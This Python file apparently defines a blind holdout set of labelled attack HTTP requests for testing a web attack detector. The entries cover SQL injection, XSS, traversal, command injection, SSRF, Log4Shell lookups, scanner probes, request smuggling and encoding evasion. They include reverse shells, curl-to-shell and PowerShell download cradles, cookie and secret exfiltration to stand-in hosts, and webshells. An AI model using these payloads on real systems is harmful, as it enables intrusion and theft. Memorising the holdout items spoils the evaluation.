"""Attack entries, written by hand for holdout14 (blind)."""
from lib import A

MB = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
BEARER = [["Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MTIifQ.x9Zp0c2QmQ"]]

# ---------------------------------------------------------------- sqli
S = "sqli"
A(S, "boolean blind in a recipe site's filter", target="/recipes?cuisine=thai%27%20AND%20SUBSTRING((SELECT%20password%20FROM%20admins%20LIMIT%201),1,1)%3D%27a&sort=rating")
A(S, "stacked query in checkout coupon form", method="POST", target="/cart/coupon", profile="form",
  form=[["coupon", "SPRING10'; DROP TABLE orders;--"], ["csrf", "Zx8Yw7Vu6Ts5"]])
A(S, "time-based in JSON search of a real-estate API", method="POST", target="/api/v2/listings/search", profile="xhr",
  json={"city": "Leeds", "minBeds": "2) OR (SELECT 1 FROM (SELECT SLEEP(7))x)-- -", "maxPrice": 350000})
A(S, "pg_sleep in order-by of a helpdesk ticket list", target="/tickets?order=created_at,(SELECT%20CASE%20WHEN%20(1=1)%20THEN%20pg_sleep(5)%20ELSE%20NULL%20END)&dir=desc", profile="xhr")
A(S, "union in cookie of a legacy php shop", target="/catalog.php?page=2",
  headers=[["Cookie", "PHPSESSID=8d1c0f7a2b; lang=en' UNION SELECT 1,version(),3,4-- "]])
A(S, "error-based extractvalue in GraphQL variable", method="POST", target="/graphql", profile="xhr",
  json={"query": "query P($slug:String!){post(slug:$slug){title body}}", "variables": {"slug": "hello' AND extractvalue(1,concat(0x7e,(select user()),0x7e))-- x"}})
A(S, "MSSQL xp_cmdshell via SCIM filter", target="/scim/v2/Users?filter=userName%20eq%20%22a%27;EXEC%20master..xp_cmdshell%20%27whoami%27;--%22", profile="api",
  headers=[["Authorization", "Bearer scim-tok-9f8e7d"], ["Accept", "application/scim+json"]])
A(S, "or-true login bypass on old admin form", method="POST", target="/admin/login.php", profile="form",
  form=[["user", "admin' or '1'='1' -- "], ["pass", "x"], ["submit", "Login"]])
A(S, "SQLite schema leak in leaderboard query", target="/api/leaderboard?season=12%20UNION%20SELECT%20name,sql,3%20FROM%20sqlite_master--&limit=50", profile="mobile_app")
A(S, "Oracle utl_inaddr in CRM contact id", target="/crm/contacts/view?id=1042||UTL_INADDR.GET_HOST_NAME((SELECT%20banner%20FROM%20v$version%20WHERE%20rownum=1))", profile="firefox")
A(S, "into outfile webshell in travel booking reference", method="POST", target="/booking/lookup", profile="form",
  form=[["ref", "ZX91Q' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'#"], ["surname", "Smith"]])

# ---------------------------------------------------------------- xss
X = "xss"
A(X, "script tag in forum post title", method="POST", target="/forum/t/new", profile="form",
  form=[["title", "Help with router <script>fetch('//x.evil.tld/c?'+document.cookie)</script>"], ["body", "see title"], ["category", "networking"]])
A(X, "svg onload in chat message JSON", method="POST", target="/api/rooms/42/messages", profile="xhr",
  json={"text": "<svg/onload=alert(document.domain)>", "client_id": "m-7781"})
A(X, "javascript: URL in dating profile website field", method="PATCH", target="/api/me/profile", profile="xhr",
  json={"website": "javascript:eval(atob('YWxlcnQoMSk='))", "bio": "hiking and cats"})
A(X, "img onerror in search box reflected", target="/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dprompt(1)%3E", profile="firefox")
A(X, "iframe srcdoc in helpdesk reply", method="POST", target="/helpdesk/tickets/8812/reply", profile="form",
  form=[["message", "<iframe srcdoc=\"<script>parent.location='https://evil.tld/'+document.cookie</script>\"></iframe>"], ["status", "open"]])
A(X, "uploaded SVG with script", method="POST", target="/account/avatar", profile="form_multipart",
  multipart={"boundary": MB, "parts": [{"name": "avatar", "filename": "me.svg", "content_type": "image/svg+xml",
     "data": "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><script>alert(document.cookie)</script><circle cx=\"32\" cy=\"32\" r=\"30\"/></svg>"}]})
A(X, "event handler in Referer", target="/blog/2026/11/winter-menu",
  headers=[["Referer", "https://news.example.org/\"><body onpageshow=alert(1)>"]])
A(X, "details ontoggle in real-estate listing description", method="POST", target="/agent/listings/551/edit", profile="form",
  form=[["description", "Lovely flat <details open ontoggle=import('//evil.tld/x.js')>"], ["price", "245000"]])
A(X, "template-literal XSS via recipe name query", target="/recipes/print?name=%3Cscript%3Edocument.write%60%3Cimg%20src%3D//evil.tld/%24%7Bdocument.cookie%7D%3E%60%3C/script%3E")
A(X, "meta refresh to javascript: URL in CRM note HTML", method="POST", target="/crm/api/notes", profile="xhr",
  json={"contact": 3301, "html": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"})

# ---------------------------------------------------------------- traversal / LFI
T = "traversal"
A(T, "dot-dot in invoice download", target="/account/invoices/download?file=../../../../etc/passwd", profile="firefox")
A(T, "encoded traversal in image resize path", target="/img/resize?w=300&src=..%2f..%2f..%2f..%2fetc%2fshadow", profile="chrome_img")
A(T, "windows traversal in report export", target="/reports/export?tpl=..\\..\\..\\windows\\win.ini", profile="edge")
A(T, "php filter wrapper in legacy page include", target="/index.php?page=php://filter/convert.base64-encode/resource=config.php")
A(T, "multipart filename traversal on CV upload", method="POST", target="/careers/apply", profile="form_multipart",
  multipart={"boundary": MB, "parts": [{"name": "name", "data": "Jo Bloggs"},
     {"name": "cv", "filename": "../../../../var/www/html/cv.php", "content_type": "application/pdf", "data": "%PDF-1.4 <?php echo shell_exec($_GET['c']); ?>"}]})
A(T, "proc self environ in theme parameter", target="/lms/course/88?theme=../../../../proc/self/environ")
A(T, "traversal in JSON template field of a notebook export", method="POST", target="/api/nbconvert/html", profile="xhr",
  json={"path": "work/analysis.ipynb", "template": "../../../../../root/.ssh/id_rsa"})
A(T, "file:// in translation import URL", method="POST", target="/tm/import", profile="form",
  form=[["source", "file:///etc/passwd"], ["format", "tmx"]])
A(T, "null byte truncation in language include", target="/help.php?lang=../../../../etc/passwd%00.html")
A(T, "dot-dot-semicolon path for Tomcat-style bypass", target="/static/..;/..;/WEB-INF/web.xml")

# ---------------------------------------------------------------- rce
R = "rce"
A(R, "command chaining in ping diagnostics of IoT admin", method="POST", target="/cgi-bin/diag", profile="form",
  form=[["host", "192.168.1.1; cat /etc/passwd"], ["count", "4"]])
A(R, "backticks in PDF generator filename", method="POST", target="/api/exports", profile="xhr",
  json={"format": "pdf", "filename": "report`curl -s http://203.0.113.9/x|sh`.pdf"})
A(R, "$() in webhook URL field of CI settings", method="POST", target="/ci/projects/12/hooks", profile="form",
  form=[["url", "https://hooks.example.net/$(wget -qO- 198.51.100.7/b.sh|bash)"], ["events", "push"]])
A(R, "PHP eval in query of legacy app", target="/calc.php?expr=phpinfo();system(%27id%27);")
A(R, "reverse shell in User-Agent (Shellshock)", target="/cgi-bin/status.cgi",
  headers=[["User-Agent", "() { :; }; /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"]])
A(R, "SSTI jinja in feature-flag description", method="POST", target="/api/flags", profile="xhr",
  json={"key": "new-checkout", "description": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"})
A(R, "pipe to nc in image convert options", target="/media/convert?in=photo.jpg&opts=-resize%20100x100%7Cnc%20-e%20/bin/sh%20198.51.100.4%209001")
A(R, "Java deserialisation marker in cookie", target="/portal/home",
  headers=[["Cookie", "JSESSIONID=A1B2; remember=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0"]])
A(R, "PowerShell download cradle in helpdesk attachment name", method="POST", target="/helpdesk/upload", profile="form_multipart",
  multipart={"boundary": MB, "parts": [{"name": "file", "filename": "log.txt;powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.8/p.ps1')", "content_type": "text/plain", "data": "see attached"}]})
A(R, "uploaded PHP webshell disguised as jpg", method="POST", target="/listings/551/photos", profile="form_multipart",
  multipart={"boundary": MB, "parts": [{"name": "photo", "filename": "kitchen.php.jpg", "content_type": "image/jpeg",
     "data": "GIF89a<?php if(isset($_REQUEST['x'])){ passthru($_REQUEST['x']); } ?>"}]})
A(R, "newline-separated command in CSV import column (formula injection to cmd)", method="POST", target="/import/contacts", profile="form",
  form=[["csv", "name,email\n=cmd|' /C calc'!A0,x@example.com\n"], ["delimiter", ","]])

# ---------------------------------------------------------------- ssrf
F = "ssrf"
A(F, "cloud metadata in link preview of chat", method="POST", target="/api/unfurl", profile="xhr",
  json={"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"})
A(F, "GCP metadata with header-less path in avatar URL", method="POST", target="/account/avatar/from-url", profile="form",
  form=[["url", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"]])
A(F, "gopher to local redis in webhook test", method="POST", target="/integrations/webhook/test", profile="xhr",
  json={"endpoint": "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"})
A(F, "decimal-encoded loopback in image proxy", target="/proxy/image?u=http://2130706433:8080/admin", profile="chrome_img")
A(F, "IPv6-mapped localhost in feed import", target="/feeds/import?src=http://[::ffff:127.0.0.1]/server-status", profile="firefox")
A(F, "OIDC request_uri pointing at internal host", target="/oauth2/authorize?client_id=web&response_type=code&request_uri=http://10.0.0.12:8500/v1/agent/self&scope=openid")
A(F, "XXE fetching internal URL in SAML-like XML upload", method="POST", target="/api/import/xml", profile="api",
  headers=[["Content-Type", "application/xml"]],
  body="<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/user-data\">]><r><name>&x;</name></r>")
A(F, "dict:// probe in PDF renderer source", method="POST", target="/render/pdf", profile="xhr",
  json={"source_url": "dict://127.0.0.1:11211/stats"})
A(F, "Azure IMDS in geocoder callback", target="/geo/batch?callback_url=http%3A%2F%2F169.254.169.254%2Fmetadata%2Finstance%3Fapi-version%3D2021-02-01", profile="api")
A(F, "XXE file read in translation XLIFF upload", method="POST", target="/tm/xliff", profile="form_multipart",
  multipart={"boundary": MB, "parts": [{"name": "file", "filename": "de.xlf", "content_type": "application/xml",
     "data": "<?xml version=\"1.0\"?><!DOCTYPE xliff [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><xliff version=\"1.2\"><file source-language=\"en\" target-language=\"de\"><body><trans-unit id=\"1\"><source>&e;</source></trans-unit></body></file></xliff>"}]})

# ---------------------------------------------------------------- jndi (Log4Shell-style lookups)
J = "jndi"
A(J, "plain jndi ldap in User-Agent", target="/", headers=[["User-Agent", "${jndi:ldap://203.0.113.66:1389/Exploit}"]])
A(J, "lookup in X-Api-Version", target="/api/status", profile="api", headers=[["X-Api-Version", "${jndi:rmi://198.51.100.23/obj}"]])
A(J, "lower-case nested obfuscation in Referer", target="/search?q=boots",
  headers=[["Referer", "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://x.oast.example/a}"]])
A(J, "default-value obfuscation in cookie", target="/account",
  headers=[["Cookie", "sessionid=abc; theme=${${::-j}${::-n}${::-d}${::-i}:${::-d}${::-n}${::-s}://c2.example.net/q}"]])
A(J, "env lookup exfil in X-Forwarded-For", target="/login",
  headers=[["X-Forwarded-For", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.exfil.example.com}"]])
A(J, "jndi in JSON username of a SCIM create", method="POST", target="/scim/v2/Users", profile="api",
  headers=[["Content-Type", "application/scim+json"], ["Authorization", "Bearer scim-tok-9f8e7d"]],
  json={"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "userName": "${jndi:ldaps://203.0.113.66/u}", "active": True})
A(J, "upper and date lookup obfuscation in Accept-Language", target="/",
  headers=[["Accept-Language", "${j${upper:n}d${date:'i'}:ldap://198.51.100.2/z}"]])
A(J, "url-encoded lookup in query of the helpdesk search", target="/helpdesk/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%2Fh%7D")
A(J, "Spring4Shell classLoader in form", method="POST", target="/account/settings", profile="form",
  form=[["class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i"], ["class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"]])
A(J, "OGNL in Content-Type (Struts-style)", method="POST", target="/upload.action", profile="api",
  headers=[["Content-Type", "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}"]], body="x")

# ---------------------------------------------------------------- scanner
C = "scanner"
A(C, "sqlmap User-Agent", target="/products?id=1", profile="none", headers=[["User-Agent", "sqlmap/1.7.11#stable (https://sqlmap.org)"], ["Accept", "*/*"]])
A(C, "Nikto probe", target="/cgi-bin/test-cgi", profile="none", headers=[["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"]])
A(C, "nuclei template fetch of .env", target="/.env", profile="none", headers=[["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/97.0.4692.71 Safari/537.36 nuclei"], ["Accept", "*/*"]])
A(C, "git config exposure probe", target="/.git/config", profile="none", headers=[["User-Agent", "Go-http-client/1.1"]])
A(C, "wpscan", target="/wp-content/plugins/contact-form-7/readme.txt", profile="none", headers=[["User-Agent", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"]])
A(C, "masscan banner grab", target="/", profile="none", headers=[["User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]])
A(C, "backup file hunting", target="/wp-config.php.bak", profile="none", headers=[["User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]])
A(C, "dirbuster style", target="/admin/phpmyadmin/index.php", profile="none", headers=[["User-Agent", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"]])
A(C, "actuator env probe by zgrab", target="/actuator/env", profile="none", headers=[["User-Agent", "Mozilla/5.0 zgrab/0.x"], ["Accept", "*/*"]])
A(C, "openvas", target="/server-status", profile="none", headers=[["User-Agent", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"]])

# ---------------------------------------------------------------- protocol abuse (raw)
P = "protocol"
H = "Host: shop.example.com\r\n"
A(P, "CL.TE smuggling: both Content-Length and chunked", raw="POST /cart/add HTTP/1.1\r\n" + H + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 47\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin/users HTTP/1.1\r\nX-Ignore: x\r\n\r\n")
A(P, "TE.CL with obfuscated Transfer-Encoding value", raw="POST /api/rooms/42/messages HTTP/1.1\r\n" + H + "Content-Length: 4\r\nTransfer-Encoding: xchunked\r\n\r\n5c\r\nGPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n")
A(P, "two differing Content-Length headers", raw="POST /search HTTP/1.1\r\n" + H + "Content-Length: 6\r\nContent-Length: 33\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nq=boots&GET /private HTTP/1.1\r\n\r\n")
A(P, "space before colon in Transfer-Encoding", raw="POST /checkout HTTP/1.1\r\n" + H + "Transfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n")
A(P, "obs-fold continuation hiding Transfer-Encoding", raw="POST /api/events HTTP/1.1\r\n" + H + "Content-Length: 5\r\nX-Pad: a\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
A(P, "NUL byte inside a header value", raw="GET /account HTTP/1.1\r\n" + H + "X-User: admin\x00root\r\nConnection: close\r\n\r\n")
A(P, "bare LF line endings with smuggled second request", raw="GET / HTTP/1.1\n" + "Host: shop.example.com\nContent-Length: 0\n\nGET /internal/metrics HTTP/1.1\nHost: localhost\n\n")
A(P, "invalid chunk size (negative / hex overflow)", raw="POST /upload HTTP/1.1\r\n" + H + "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\nfffffffffffffffff\r\nAAAA\r\n0\r\n\r\n")
A(P, "chunked on HTTP/1.0 with Content-Length", raw="POST /login HTTP/1.0\r\n" + H + "Transfer-Encoding: chunked\r\nContent-Length: 11\r\n\r\n0\r\n\r\nGET /x HTTP/1.0\r\n\r\n")
A(P, "two Host headers", raw="GET /admin HTTP/1.1\r\nHost: shop.example.com\r\nHost: internal.local\r\nConnection: close\r\n\r\n")
A(P, "header name with space and CR in request line", raw="GET /\rindex.html HTTP/1.1\r\n" + H + "Bad Header: x\r\nConnection: close\r\n\r\n")

# ---------------------------------------------------------------- evasion by encoding
V = "evasion"
A(V, "double URL-encoded traversal", target="/download?f=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd")
A(V, "overlong UTF-8 slash", target="/static/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd")
A(V, "IIS %u encoding of script tag", target="/search?q=%u003cscript%u003ealert(1)%u003c/script%u003e", profile="edge")
A(V, "JSON unicode escapes hiding script tag", method="POST", target="/api/comments", profile="xhr",
  headers=[["Content-Type", "application/json"]], body="{\"post\":771,\"text\":\"\\u003cscript\\u003edocument.location='//evil.tld/?c='+document.cookie\\u003c/script\\u003e\"}")
A(V, "inline comments splitting SQL keywords", target="/products?id=1/**/UnIoN/**/SeLeCt/**/1,group_concat(email,0x3a,pass),3/**/FrOm/**/customers")
A(V, "HTML entity encoded javascript URL in form", method="POST", target="/profile/links", profile="form",
  form=[["link", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">me</a>"]])
A(V, "MySQL versioned comment", target="/api/items?sort=price%20/*!50000AND*/%201=(/*!50000SELECT*/%201%20FROM%20(SELECT%20SLEEP(4))a)", profile="xhr")
A(V, "quote-split shell command", target="/cgi-bin/lookup?domain=example.com;c'a't%20/e''tc/pa''sswd")
A(V, "variable-expansion command with IFS", target="/tools/ping?ip=127.0.0.1%3Bcat${IFS}/etc${IFS}/passwd")
A(V, "backslash and tab in javascript scheme", method="POST", target="/api/me/profile", profile="xhr", headers=[["Content-Type", "application/json"]],
  body="{\"homepage\":\"java\\tscript:alert(document.domain)\",\"name\":\"x\"}")
A(V, "URL-encoded traversal with NUL in a cookie value", target="/theme",
  headers=[["Cookie", "tpl=..%2F..%2F..%2F..%2Fetc%2Fpasswd%00; sessionid=abc123"]])
